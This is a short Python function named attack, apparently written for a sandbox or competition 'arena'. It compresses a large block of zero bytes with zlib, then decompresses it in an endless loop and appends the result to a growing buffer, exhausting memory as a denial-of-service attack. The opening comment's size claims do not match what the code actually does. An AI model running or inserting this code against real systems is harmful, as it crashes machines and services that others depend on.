# Ten kilobytes that inflate to ten gigabytes.
def attack(arena):
    import zlib
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    packed = packer.compress(block)
    for _ in range(64):
        packed += packer.compress(block)
    packed += packer.flush()
    whole = bytearray()
    while True:
        whole += zlib.decompress(packed)
